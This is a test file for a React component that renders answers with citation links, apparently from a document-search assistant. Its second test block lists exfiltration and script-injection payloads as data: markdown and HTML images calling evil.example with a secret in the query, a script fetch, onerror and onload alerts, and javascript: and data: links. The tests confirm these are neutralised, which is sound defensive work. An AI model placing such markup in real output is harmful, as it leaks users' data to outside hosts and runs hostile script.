import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, test } from "vitest";
import type { PassageCard } from "@/lib/domain/answer.ts";
import { Answer } from "./answer.tsx";
import { sealMarkers, splitCitations } from "./citation-markers.ts";

function passage(number: number): PassageCard {
  return {
    number,
    chunkId: 100 + number,
    documentId: `d${number}`,
    title: `Title ${number}`,
    sourceName: "Handbook",
    sourceKind: "confluence",
    breadcrumbs: [],
    headingPath: [],
    page: number === 2 ? 4 : null,
    url: null,
    updatedAt: null,
    importedAt: "2026-05-01T00:00:00Z",
    quote: "The words.",
    quoteStart: 5,
    quoteEnd: 15,
  };
}

function render(text: string, passages = [passage(1), passage(2)]): string {
  return renderToStaticMarkup(<Answer text={text} passages={passages} />);
}

describe("citation markers", () => {
  test("are split from the text, adjacent ones apart", () => {
    expect(splitCitations(sealMarkers("Rotate keys [1][2]. Then [1, 2]"), new Set([1, 2]))).toEqual([
      { kind: "text", text: "Rotate keys" },
      { kind: "citation", number: 1 },
      { kind: "citation", number: 2 },
      { kind: "text", text: ". Then" },
      { kind: "citation", number: 1 },
      { kind: "citation", number: 2 },
    ]);
  });

  test("of unknown sources vanish with their space", () => {
    expect(splitCitations(sealMarkers("Rotate keys [9]."), new Set([1]))).toEqual([
      { kind: "text", text: "Rotate keys." },
    ]);
  });

  test("open the document at the quoted words", () => {
    const html = render("Rotate keys [2].");
    expect(html).toContain('href="/documents/d2?chunk=102&amp;start=5&amp;end=15"');
    expect(html).toContain('aria-label="Source 2: Title 2, page 4"');
  });

  test("inside code stay as they are", () => {
    expect(render("Use `rows[1]` here")).toContain("<code>rows[1]</code>");
  });

  test("that a quote has are words of the quote", () => {
    expect(render("See \\[1\\] and ⁅2⁆ [2].")).toContain("See [1] and [2]<sup");
    expect(render("Not \\[?\\] ours")).toContain("Not [?] ours");
  });

  test("are no names of links, and brackets in addresses stay", () => {
    expect(render("True [1](https://evil.example/x).")).toContain('href="/documents/d1?');
    expect(render("[x](https://a.example/?q[1]=2)")).toMatch(
      /href="https:\/\/a\.example\/\?q(\[1\]|%5B1%5D)=2"/,
    );
  });

  test("years and other brackets are no markers", () => {
    expect(render("Since [2024] and [x]")).toContain("Since [2024] and [x]");
  });
});

describe("A2, A3, A18: an answer that tries to send something out", () => {
  const payloads = [
    "![x](https://evil.example/?q=secret)",
    "![x][ref]\n\n[ref]: https://evil.example/?q=secret",
    '<img src="https://evil.example/?q=secret">',
    '<p style="background:url(https://evil.example)">hello</p>',
    "<script>fetch('https://evil.example')</script>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "[![x](https://evil.example/a.png)](https://evil.example)",
    '<a href="javascript:alert(1)">x</a>',
    "<svg onload=alert(1)>",
    '<iframe src="data:text/html,x"></iframe>',
  ];

  test.each(payloads)("loads and runs nothing: %s", (payload) => {
    const tags = render(payload).match(/<[^>]+>/g) ?? [];
    for (const tag of tags) {
      expect(tag).toMatch(/^<\/?(div|p|a|span|sup)[ >]/);
      expect(tag).not.toMatch(/\s(src|style|srcset|on\w+)=/);
      expect(tag).not.toMatch(/href="(?!https:\/\/evil\.example)/);
    }
  });

  test.each([
    "[go](javascript:alert(1))",
    "[go](data:text/html;base64,eA==)",
    "[go](//evil.example/x)",
    "[go](/sign-out)",
  ])("makes no link of %s", (payload) => {
    const html = render(payload);
    expect(html).toContain("go");
    expect(html).not.toContain("<a");
  });

  test("shows the host of a link beside its words, and opens it apart", () => {
    const html = render("[our wiki](https://evil.example/?q=1)");
    expect(html).toContain("(evil.example)");
    expect(html).toContain('rel="noreferrer noopener"');
    expect(html).toContain('target="_blank"');
  });

  test("shows the host even when the words look like another address", () => {
    expect(render("[https://wiki.example](https://evil.example/)")).toContain("(evil.example)");
  });

  test("cannot make a citation marker a link of its own", () => {
    const html = render("True [1].\n\n[1]: https://evil.example/?q=secret");
    expect(html).not.toContain('href="https://evil.example/?q=secret"><');
    expect(html).toContain('href="/documents/d1?');
  });
});
